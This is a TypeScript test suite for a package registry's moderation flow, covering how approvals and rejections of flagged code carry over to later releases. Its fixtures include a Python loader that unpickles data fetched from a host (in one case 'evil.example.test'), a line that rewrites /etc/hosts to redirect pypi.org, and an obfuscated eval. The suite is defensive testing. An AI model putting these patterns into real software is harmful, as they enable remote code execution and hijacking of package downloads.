import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { getPublishReport, writeAppeal } from '@nodeyard/contract/packs'
import {
  getReview,
  listDecisions,
  listReviews,
  moderateVersion,
  revokeDecision,
  undoDecision,
  updateNodeAsAdmin,
} from '@nodeyard/contract/safety'
import { asAdmin } from '../../../test/admin.ts'
import { type TestPublisher, testPublisher } from '../../../test/publishing.ts'
import { refused } from '../../../test/refused.ts'
import { useWorld } from '../../../test/world.ts'

const holder = useWorld()
const day = 86_400_000

/** Loads a pickle that a service sends: right to hold, and right to approve. */
const loader = (part: { host?: string; decode?: string; extra?: string } = {}) => `
SCENE = ${count}
import base64, pickle, requests

HOST = "${part.host ?? 'https://models.example.test'}"

def decode(text):
    ${part.decode ?? 'return base64.b64decode(text)'}

def load(name):
    body = requests.get(HOST + name, params=SCENE).text
    return pickle.loads(decode(body))

def other():
    return ${part.extra ?? '1'}
`

let count = 0

async function scene(publisher?: TestPublisher) {
  const { world } = holder
  const owner = publisher ?? (await testPublisher(world))
  const nodeId = `sticky-${++count}`
  const publish = async (version: string, code = loader(), more: Record<string, string> = {}) => {
    const { id } = await owner.publish({ id: nodeId, version, files: { 'loader.py': code, ...more } })
    return id
  }
  const decide = async (version: string, status: 'Active' | 'Banned' | 'Flagged', body: object = {}) =>
    (await asAdmin(world)).call(moderateVersion, {
      params: { nodeId, version },
      body: { status: `NodeVersionStatus${status}`, status_reason: 'Looked at it.', ...body },
    })
  return { world, owner, nodeId, publish, decide, ...readersOf(nodeId) }
}

/** Sessions end while the clock is moved on, so each call has its own. */
function readersOf(nodeId: string) {
  const admin = () => asAdmin(holder.world)
  const review = async (version: string) => (await admin()).call(getReview, { params: { nodeId, version } })
  return {
    review,
    statusOf: async (version: string) =>
      (await review(version)).version.status.replace('NodeVersionStatus', ''),
    findingOf: async (version: string) => {
      const [finding] = (await review(version)).findings
      assert.ok(finding)
      return finding
    },
    report: async (version: string) =>
      (await admin()).call(getPublishReport, { params: { nodeId, version } }),
  }
}

describe('an approval', () => {
  it('lets the same code pass in later releases, and says so in their reports', async () => {
    const { world, publish, decide, statusOf, report } = await scene()
    world.startDay()
    await publish('1.0.0')
    assert.equal(await statusOf('1.0.0'), 'Flagged')
    await decide('1.0.0', 'Active')
    const at = world.now().toISOString().slice(0, 10)
    for (let i = 1; i <= 5; i++) {
      await publish(`1.0.${i}`, `# Release ${i}.\n${loader({ extra: String(i) })}`)
      assert.equal(await statusOf(`1.0.${i}`), 'Active')
    }
    const [finding] = (await report('1.0.5')).findings
    assert.deepEqual(
      [finding?.rule, finding?.blocks, finding?.decision?.verdict, finding?.decision?.version],
      ['pickled-data', false, 'approved', '1.0.0'],
    )
    assert.equal(finding?.decision?.at.slice(0, 10), at)
  })

  it('lasts for 100 releases, and then shows the one statement that changes', async () => {
    const { world, publish, decide, statusOf, findingOf } = await scene()
    await publish('1.0.0')
    await decide('1.0.0', 'Active')
    const held: string[] = []
    for (let i = 1; i <= 100; i++) {
      world.advance(day)
      await publish(`1.0.${i}`, `${'# A line.\n'.repeat(i % 7)}${loader({ extra: String(i) })}`)
      if ((await statusOf(`1.0.${i}`)) !== 'Active') held.push(`1.0.${i}`)
    }
    assert.deepEqual(held, [])
    await publish('1.1.0', loader({ decode: 'return base64.b64decode(text[1:])' }))
    assert.equal(await statusOf('1.1.0'), 'Flagged')
    const { change } = await findingOf('1.1.0')
    assert.deepEqual(
      change?.parts.map(({ name, after }) => [name, after]),
      [['decode', 'def decode(text):\n    return base64.b64decode(text[1:])']],
    )
  })

  it('does not cover a changed function, a changed callee or a changed address, and the review shows the change', async () => {
    const { publish, decide, statusOf, findingOf } = await scene()
    await publish('1.0.0')
    await decide('1.0.0', 'Active')
    await publish('1.1.0', loader({ decode: 'return base64.b85decode(text)' }))
    await publish('1.2.0', loader({ host: 'https://evil.example.test' }))
    assert.deepEqual([await statusOf('1.1.0'), await statusOf('1.2.0')], ['Flagged', 'Flagged'])
    const { change } = await findingOf('1.1.0')
    assert.equal(change?.since.version, '1.0.0')
    assert.deepEqual(
      change?.parts.map(({ name, before, after }) => [name, before, after]),
      [
        [
          'decode',
          'def decode(text):\n    return base64.b64decode(text)',
          'def decode(text):\n    return base64.b85decode(text)',
        ],
      ],
    )
    assert.deepEqual(
      (await findingOf('1.2.0')).change?.parts.map(({ after }) => after),
      ['HOST = "https://evil.example.test"'],
    )
  })

  it('leaves out what was approved when it says why a version is held', async () => {
    const { world, nodeId, publish, decide } = await scene()
    const heldFor = async (version: string) =>
      (await (await asAdmin(world)).call(getReview, { params: { nodeId, version } })).version.held_for
    await publish('1.0.0')
    assert.deepEqual(await heldFor('1.0.0'), ['network_code'])
    await decide('1.0.0', 'Active')
    assert.equal(await heldFor('1.0.0'), undefined)
    await publish('1.1.0', `${loader()}\nopen("/etc/hosts", "a").write("192.0.2.1 pypi.org")\n`)
    assert.deepEqual(await heldFor('1.1.0'), ['machine_changes'])
    await decide('1.1.0', 'Flagged')
    assert.deepEqual(await heldFor('1.1.0'), [])
  })

  it('ends after 180 days, with a new owner, and when an admin revokes it', async () => {
    const { world, nodeId, publish, decide, statusOf } = await scene()
    await publish('1.0.0')
    await decide('1.0.0', 'Active')
    world.advance(179 * day)
    await publish('1.1.0')
    assert.equal(await statusOf('1.1.0'), 'Active')
    world.advance(2 * day)
    await publish('1.2.0')
    assert.equal(await statusOf('1.2.0'), 'Flagged')
    await decide('1.2.0', 'Active')
    const admin = await asAdmin(world)
    const { decisions } = await admin.call(listDecisions, { query: { node_id: nodeId } })
    assert.deepEqual(
      decisions.map(({ version, verdict, name }) => [version, verdict, name]),
      [['1.2.0', 'approved', 'load']],
    )
    const params = { decisionId: decisions[0]?.id ?? '' }
    await admin.call(revokeDecision, { params, body: { reason: 'The service was sold.' } })
    await refused('decision_not_found', admin.call(revokeDecision, { params, body: { reason: 'Again.' } }))
    await publish('1.3.0')
    assert.equal(await statusOf('1.3.0'), 'Flagged')
    await decide('1.3.0', 'Active')
    const other = await testPublisher(world)
    await admin.call(updateNodeAsAdmin, { params: { nodeId }, body: { publisher: { id: other.id } } })
    await other.publish({ id: nodeId, version: '1.4.0', files: { 'loader.py': loader() } })
    assert.equal(await statusOf('1.4.0'), 'Flagged')
  })

  it('is undone with the decision about the version', async () => {
    const { world, nodeId, publish, decide, statusOf } = await scene()
    await publish('1.0.0')
    await decide('1.0.0', 'Active')
    await (await asAdmin(world)).call(undoDecision, { params: { nodeId, version: '1.0.0' } })
    await publish('1.1.0')
    assert.deepEqual([await statusOf('1.0.0'), await statusOf('1.1.0')], ['Flagged', 'Flagged'])
  })

  it('settles waiting versions of the node with the same code', async () => {
    const { world, nodeId, publish, decide, statusOf, findingOf } = await scene()
    await publish('1.0.0')
    await publish('1.1.0')
    await publish('1.2.0', loader({ extra: '2' }))
    await publish('1.3.0', loader({ host: 'https://other.example.test' }))
    assert.deepEqual((await findingOf('1.0.0')).settles, { waiting: 2, releases: 2, nodes: 1 })
    const { versions } = await (await asAdmin(world)).call(listReviews, { query: { node_id: nodeId } })
    assert.deepEqual(versions.map(({ version, same_code }) => [version, same_code]).toSorted(), [
      ['1.0.0', 2],
      ['1.1.0', 2],
      ['1.2.0', 2],
      ['1.3.0', 0],
    ])
    await decide('1.1.0', 'Active')
    await world.runJobs()
    assert.deepEqual(await Promise.all(['1.0.0', '1.1.0', '1.2.0', '1.3.0'].map(statusOf)), [
      'Active',
      'Active',
      'Active',
      'Flagged',
    ])
  })

  it('releases a version whose publisher appeals after its code was approved elsewhere', async () => {
    const { world, nodeId, publish, decide, statusOf, owner } = await scene()
    const id = await publish('1.0.0')
    await publish('1.1.0')
    await decide('1.1.0', 'Active')
    // The job that settles others has not run yet.
    const user = world.as({ id: owner.ownerId, email: '', name: '' })
    const params = { publisherId: owner.id, nodeId, versionId: id }
    await user.call(writeAppeal, { params, body: { text: 'It is our own service.' } })
    await world.runJobs()
    assert.equal(await statusOf('1.0.0'), 'Active')
  })
})

describe('a rejection', () => {
  it('refuses the same code in later releases, with the reason', async () => {
    const { publish, decide, statusOf, review } = await scene()
    await publish('1.0.0')
    await decide('1.0.0', 'Banned', { status_reason: 'That service is not yours.' })
    await publish('1.1.0', loader({ extra: '2' }))
    assert.equal(await statusOf('1.1.0'), 'Banned')
    const { version, findings } = await review('1.1.0')
    assert.match(version.status_reason ?? '', /rejected on \d{4}-\d\d-\d\d in version 1\.0\.0.*not yours/)
    assert.equal(findings[0]?.decision?.verdict, 'rejected')
  })

  it('leaves a version with a part of the rejected code to a person', async () => {
    const { publish, decide, statusOf } = await scene()
    const both = { 'second.py': loader({ host: 'https://b.example.test' }) }
    await publish('1.0.0', loader(), both)
    await decide('1.0.0', 'Banned')
    await publish('1.1.0', loader(), { 'second.py': 'x = 1\n' })
    await publish('1.2.0', loader(), both)
    assert.deepEqual([await statusOf('1.1.0'), await statusOf('1.2.0')], ['Flagged', 'Banned'])
  })

  it('can be about one finding while another is approved', async () => {
    const { publish, decide, statusOf, review } = await scene()
    const both = { 'second.py': loader({ host: 'https://b.example.test' }) }
    await publish('1.0.0', loader(), both)
    const { findings } = await review('1.0.0')
    const digestOf = (file: string) => findings.find((one) => one.file === file)?.digest ?? ''
    const verdicts = [{ digest: digestOf('loader.py'), verdict: 'approved' as const }]
    await decide('1.0.0', 'Banned', { verdicts })
    await publish('1.1.0', loader(), { 'second.py': 'x = 1\n' })
    await publish('1.2.0', 'x = 1\n', both)
    assert.deepEqual([await statusOf('1.1.0'), await statusOf('1.2.0')], ['Active', 'Banned'])
  })
})

describe('a decision about code in every node', () => {
  const vendored = 'eval(atob("YWxlcnQoMSk="))\n'
  const web = { 'web/vendor.js': vendored }

  it('covers nodes of publishers who are known, and not those of strangers', async () => {
    const { world } = holder
    const old = await testPublisher(world)
    await old.publish({ id: `old-${old.id}`, version: '1.0.0' })
    const [first, second] = [await scene(), await scene(old)]
    await first.publish('1.0.0', 'x = 1\n', web)
    await second.publish('1.0.0', 'x = 1\n', web)
    world.advance(31 * day)
    const { digest = '', settles } = await first.findingOf('1.0.0')
    assert.deepEqual(settles, { waiting: 1, releases: 1, nodes: 1 })
    const verdicts = [{ digest, verdict: 'approved' as const, everywhere: true }]
    await first.decide('1.0.0', 'Active', { verdicts })
    await world.runJobs()
    assert.equal(await second.statusOf('1.0.0'), 'Active')
    const stranger = await scene()
    await stranger.publish('1.0.0', 'x = 1\n', web)
    assert.equal(await stranger.statusOf('1.0.0'), 'Flagged')
    assert.equal((await stranger.review('1.0.0')).trust, 'new')
  })
})
